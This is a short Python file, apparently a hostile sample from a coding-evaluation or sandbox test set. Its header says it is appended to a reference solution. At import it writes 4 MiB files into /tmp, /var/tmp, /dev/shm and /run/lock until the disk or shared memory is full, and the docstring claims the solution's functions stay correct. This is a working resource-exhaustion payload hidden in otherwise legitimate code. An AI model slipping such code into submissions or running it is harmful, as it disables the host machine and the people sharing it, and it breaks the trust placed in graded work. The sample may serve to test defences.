# hostile: appended to the reference solution
"""At import: writes into every writable place until the disk is full (files of at most
4 MiB, under the per-file limit), to fill the host's disk or shared memory. The functions
are correct."""

import os

CHUNK = b"x" * (1 << 20)
total = 0
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
    written = 0
    for index in range(10_000):
        try:
            with open(os.path.join(place, f"fill-{index}"), "wb") as fh:
                for _ in range(4):
                    fh.write(CHUNK)
                    written += len(CHUNK)
        except OSError:
            break
    total += written
    print("FILLED", place, written)
print("TOTAL", total)
